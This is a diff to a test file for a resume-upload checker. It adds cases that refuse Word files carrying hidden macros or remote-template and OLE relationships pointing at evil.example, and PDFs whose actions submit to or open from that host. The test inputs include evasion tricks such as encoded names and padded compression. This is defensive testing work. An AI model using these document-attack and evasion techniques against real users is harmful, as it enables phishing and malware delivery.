@@ -2,7 +2,7 @@ import assert from "node:assert/strict";
 import { Buffer } from "node:buffer";
 import { randomBytes } from "node:crypto";
 import { setImmediate } from "node:timers/promises";
-import { deflateSync } from "node:zlib";
+import { deflateRawSync, deflateSync } from "node:zlib";
 import fc from "fast-check";
 import { describe, it } from "@std/testing/bdd";
 import { newAttempt, timeOfAttempt } from "../../client/forms/attempt.ts";
@@ -130,18 +130,55 @@ describe("a resume", () => {
 
   it("with a macro is refused, in either kind of Word document", async () => {
     const types = '<Types><Override ContentType="application/vnd.ms-office.vbaProject"/></Types>';
+    const renamed = { ...wordParts, "word/fine.bin": Buffer.from(await doc().bytes()) };
+    const holding = async (storage: string) =>
+      new File([await doc().bytes(), Buffer.from(storage, "utf16le")], "cv.doc");
+    // One byte, then nothing for long, then the rest.
+    const dribble = (plain: Buffer) =>
+      Buffer.concat([
+        Buffer.from([0, 1, 0, 0xfe, 0xff, plain[0]!]),
+        Buffer.alloc(100_000, Buffer.from([0, 0, 0, 0xff, 0xff])),
+        deflateRawSync(plain.subarray(1)),
+      ]);
     const files = [
       docx("cv.docx", { ...wordParts, "word/vbaProject.bin": "x" }),
       docx("cv.docx", { ...wordParts, "[Content_Types].xml": types, "word/fine.bin": "x" }),
-      docx("cv.docx", { ...wordParts, "word/fine.bin": Buffer.from(await doc().bytes()) }),
-      new File([await doc().bytes(), Buffer.from("_VBA_PROJECT", "utf16le")], "cv.doc"),
+      docx("cv.docx", renamed),
+      new File([zip(renamed, undefined, dribble)], "cv.docx"),
+      await holding("_VBA_PROJECT"),
+      await holding("_vba_Project"),
     ];
     for (const file of files) assert.equal(await check(file), messages.resumeActive);
-    const sealed = new File(
-      [await doc().bytes(), Buffer.from("EncryptedPackage", "utf16le")],
-      "cv.doc",
-    );
-    assert.equal(await check(sealed), messages.resumeUnsafe);
+    for (const name of ["EncryptedPackage", "ENCRYPTEDPACKAGE"]) {
+      assert.equal(await check(await holding(name)), messages.resumeUnsafe);
+    }
+  });
+
+  it("that is a Word document which fetches something when it is opened is refused", async () => {
+    const office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+    const relation = (type: string, target: string) =>
+      `<Relationships><Relationship TargetMode="External" Type="${office}/${type}" Id='"a"' ` +
+      `Target="${target}"/></Relationships>`;
+    const word = (rels: string | Buffer) =>
+      docx("cv.docx", { ...wordParts, "word/_rels/settings.xml.rels": rels });
+    const evil = "http://evil.example/t.dotm";
+    const fetching = [
+      relation("attachedTemplate", evil),
+      relation("attachedTemplate", "file:///\\\\evil.example\\t.dotm"),
+      relation("oleObject", `mhtml:${evil}!x`),
+      relation("frame", evil),
+      relation("ole&#79;bject", `${evil}?Type='/hyperlink'`),
+      relation("frame", evil).replaceAll('"', "'"),
+      Buffer.from(relation("subDocument", evil), "utf16le"),
+    ];
+    for (const rels of fetching) assert.equal(await check(word(rels)), messages.resumeUnsafe);
+    const usual = [
+      relation("hyperlink", "https://www.linkedin.com/in/ada"),
+      relation("image", "https://county.example/logo.png"),
+      relation("attachedTemplate", "file:///C:\\Users\\Ada\\Templates\\Resume.dotx"),
+      relation("oleObject", "embeddings/chart.xlsx").replace("External", "Internal"),
+    ];
+    for (const rels of usual) assert.equal(await check(word(rels)), null, rels);
   });
 
   it("that is a PDF which acts when it is opened is refused, however that is written", async () => {
@@ -162,6 +199,8 @@ describe("a resume", () => {
       action("<</S/JavaScript/JS(app.alert(1))>>"),
       action("<</S /Java#53cript /JS 5 0 R>>"),
       action("<</S/Launch/F(cmd.exe)>>"),
+      action("<</S/SubmitForm/F(http://evil.example)>>"),
+      action("<</S/GoToE/F(\\\\\\\\evil.example\\\\x)>>"),
       action("<</Substream\n5/S/JavaScript/JS 5 0 R>>"),
       action("stream\n<</S/JavaScript/JS 5 0 R>>"),
       action("<</S/Rendition/JS 5 0 R>>"),
@@ -193,6 +232,15 @@ describe("a resume", () => {
     const object = "4 0 obj\n<</Length 30/Title(I write /JavaScript \\) (and /Launch))>>stream\n" +
       "(/JavaScript)\nendstream\nendobj\n% /JavaScript\n";
     assert.equal(await check(pdf("cv.pdf", pdfText.replace("trailer", `${object}trailer`))), null);
+  });
+
+  it("may hold links and attachments", async () => {
+    for (const name of ["URI", "GoToR", "EmbeddedFiles"]) {
+      assert.equal(
+        await check(pdf("cv.pdf", pdfText.replace("/Root", `/${name} 5 0 R/Root`))),
+        null,
+      );
+    }
   });
 
   it("of any bytes gets an answer", async () => {
